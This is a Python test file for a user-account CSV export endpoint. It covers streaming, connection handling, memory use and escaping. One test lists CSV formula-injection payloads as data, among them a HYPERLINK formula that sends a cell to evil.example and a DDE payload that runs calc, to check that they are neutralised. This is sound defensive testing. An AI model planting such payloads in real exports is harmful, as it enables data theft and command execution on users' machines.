"""The export of accounts: what it says, and that it never holds them all."""

import asyncio
import csv
import io
import threading
import tracemalloc
from collections.abc import AsyncGenerator, AsyncIterator
from contextlib import asynccontextmanager

import httpx2
import pytest
from starlette.types import Message

from app.auth.permissions import Role
from app.database.engine import Database
from app.database.session import Session
from app.main import create_app
from app.resources import Resources
from app.users import export
from app.users.export import users_csv
from app.users.model import User
from app.users.repository import UserRepository
from tests.support.factories import make_user
from tests.support.problems import problem_of
from tests.support.queries import add_users
from tests.support.server import served
from tests.support.service import Caller, running_service

EXPORT = "/api/v1/users/export"
ONE_CONNECTION = {"database_pool_size": 1, "database_max_overflow": 0, "database_pool_timeout": 1}
COLUMNS = ["id", "email", "full_name", "role", "is_active", "email_verified", "created_at"]


async def _export(database: Database) -> str:
    return "".join([chunk async for chunk in users_csv(database)])


async def _cell(resources: Resources, full_name: str) -> str:
    """Return the name of an account as a spreadsheet reads it."""
    user = await make_user(resources, full_name=full_name)
    rows = csv.DictReader(io.StringIO(await _export(resources.database), newline=""))
    return next(row["full_name"] for row in rows if row["id"] == str(user.id))


async def test_an_admin_downloads_every_account(admin: Caller, resources: Resources) -> None:
    other = await make_user(resources, full_name="Zo\u00eb", is_active=False, email_verified=False)
    response = await admin.client.get(EXPORT)
    assert response.status_code == 200
    assert response.headers["content-type"].partition(";")[0] == "text/csv"
    assert response.headers["content-disposition"] == 'attachment; filename="users.csv"'
    assert response.text.splitlines()[0] == ",".join(COLUMNS)
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    assert [row["id"] for row in rows] == [str(admin.user.id), str(other.id)]
    assert rows[1] == {
        "id": str(other.id),
        "email": other.email,
        "full_name": "Zo\u00eb",
        "role": "user",
        "is_active": "false",
        "email_verified": "false",
        "created_at": other.created_at.isoformat().replace("+00:00", "Z"),
    }


async def test_no_cell_is_a_formula(resources: Resources) -> None:
    formulas = [
        "=1+1",
        "+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1+1",
        '=HYPERLINK("https://evil.example?"&A1,"x")',
        "=cmd|' /C calc'!A0",
        "\uff1d1+1",
        "\uff0b1",
    ]
    for name in formulas:
        assert await _cell(resources, name) == f"'{name}"


async def test_what_is_no_formula_is_kept_to_the_letter(resources: Resources) -> None:
    for name in (
        'She said "hi", twice',
        "a\r\nb",
        "a=b",
        "'quoted'",
        "1,2",
        "\U0001f512",
        "\u202e",
    ):
        assert await _cell(resources, name) == name


async def test_a_name_cannot_add_rows_or_columns(resources: Resources) -> None:
    await make_user(resources, full_name='x"\r\nid,admin@example.com,"y')
    rows = list(csv.reader(io.StringIO(await _export(resources.database), newline="")))
    assert len(rows) == 2
    assert all(len(row) == len(COLUMNS) for row in rows)


async def test_the_first_chunk_goes_out_before_the_last_row_is_read(
    database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    arrived = threading.Event()
    stream = UserRepository.stream

    async def halting(repository: UserRepository) -> AsyncIterator[User]:
        rows = stream(repository)
        yield await anext(rows)
        assert await asyncio.to_thread(arrived.wait, 10), "nothing arrived before the last row"
        async for user in rows:
            yield user

    monkeypatch.setattr(UserRepository, "stream", halting)
    monkeypatch.setattr(export, "_CHUNK_CHARACTERS", 1)
    async with running_service(database_url) as service:
        await make_user(service.resources)
        async with service.caller(Role.ADMIN) as admin:
            with served(create_app(service.resources.settings)) as url:
                signed_in = admin.client.build_request("GET", EXPORT).headers
                headers = {**signed_in, "host": "127.0.0.1"}
                async with (
                    httpx2.AsyncClient(base_url=url, headers=headers) as client,
                    client.stream("GET", EXPORT) as response,
                ):
                    chunks = response.aiter_text()
                    received = await anext(chunks)
                    arrived.set()
                    assert received.count("\n") == 2
                    received += "".join([chunk async for chunk in chunks])
    assert received.count("\n") == 3


async def test_without_a_connection_there_is_no_half_answer(
    database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    snapshot = Database.snapshot

    @asynccontextmanager
    async def too_late(database: Database) -> AsyncIterator[Session]:
        async with database.reader() as reader:
            await UserRepository(reader).page(1, None)
            async with snapshot(database) as session:
                yield session

    async with (
        running_service(database_url, **ONE_CONNECTION) as service,
        service.caller(Role.ADMIN) as admin,
    ):
        monkeypatch.setattr(Database, "snapshot", too_late)
        response = await admin.client.get(EXPORT)
        problem_of(response, 503)
        assert response.headers["retry-after"] == "5"
        monkeypatch.undo()
        assert (await admin.client.get(EXPORT)).status_code == 200


async def test_a_client_that_goes_away_keeps_no_connection(
    database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    opened = []
    gone = asyncio.Event()

    def remembered(database: Database) -> AsyncGenerator[str, None]:
        # What is still pointed to is closed by the service, not by the garbage collector.
        opened.append(users_csv(database))
        return opened[-1]

    async def receive() -> Message:
        await gone.wait()
        return {"type": "http.disconnect"}

    async def send(message: Message) -> None:
        if message["type"] == "http.response.body":
            gone.set()
            await asyncio.Event().wait()

    monkeypatch.setattr(export, "users_csv", remembered)
    monkeypatch.setattr(export, "_CHUNK_CHARACTERS", 1)
    async with (
        running_service(database_url, **ONE_CONNECTION) as service,
        service.caller(Role.ADMIN) as admin,
    ):
        request = admin.client.build_request("GET", EXPORT)
        scope = {
            "type": "http",
            "method": "GET",
            "path": EXPORT,
            "query_string": b"",
            "headers": [(name.lower(), value) for name, value in request.headers.raw],
            "client": ("192.0.2.1", 50000),
        }
        async with asyncio.timeout(10):
            await service.app(scope, receive, send)
        assert len(opened) == 1
        await service.resources.database.ping()


# The measure of coverage takes memory of its own.
@pytest.mark.no_cover
async def test_memory_does_not_grow_with_the_number_of_accounts(resources: Resources) -> None:
    peaks = []
    for more in (2_000, 18_000):
        await add_users(resources, more)
        tracemalloc.start()
        rows = 0
        async for chunk in users_csv(resources.database):
            rows += chunk.count("\n")
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
    assert rows == 20_001
    assert peaks[1] < 1.5 * peaks[0]
